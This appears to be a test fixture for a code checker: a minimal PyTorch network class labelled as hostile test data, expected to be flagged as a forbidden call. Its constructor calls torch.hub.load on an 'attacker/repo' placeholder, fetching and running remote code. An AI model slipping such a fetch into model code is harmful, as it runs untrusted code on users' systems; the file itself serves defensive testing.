# ruff: noqa  (hostile test data, deliberately bad code)
# attempts: download code with torch.hub
# expect-static: forbidden_call
# expect-runtime: build_failed
import torch
from torch import nn


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.fc = nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])
        torch.hub.load("attacker/repo", "model")

    def forward(self, x):
        return self.fc(x.flatten(1))
